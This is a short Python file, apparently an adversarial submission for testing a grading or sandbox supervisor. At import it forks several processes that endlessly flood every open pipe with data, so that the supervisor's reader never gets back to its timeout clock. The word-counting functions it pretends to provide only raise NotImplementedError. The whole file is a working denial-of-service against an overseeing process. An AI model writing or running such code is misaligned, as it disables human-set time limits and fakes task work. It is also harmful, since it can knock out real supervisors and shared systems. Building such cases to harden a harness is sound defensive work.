"""Attack: never-ending output from several processes straight into the supervisor's pipe.

Writers that always keep the pipe full may keep a reader that drains "until it
would block" from ever getting back to its clock.
"""

import os

BLOCK = b"x" * (1 << 16)


def _pipes():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
                found.append(int(name))
        except OSError:
            pass
    return found


PIPES = _pipes() or [1]
for _ in range(4):
    if os.fork() == 0:
        while True:
            for fd in PIPES:
                try:
                    os.write(fd, BLOCK)
                except OSError:
                    pass
while True:
    for fd in PIPES:
        try:
            os.write(fd, BLOCK)
        except OSError:
            pass


def count_words(text):
    raise NotImplementedError


def top_words(text, n):
    raise NotImplementedError
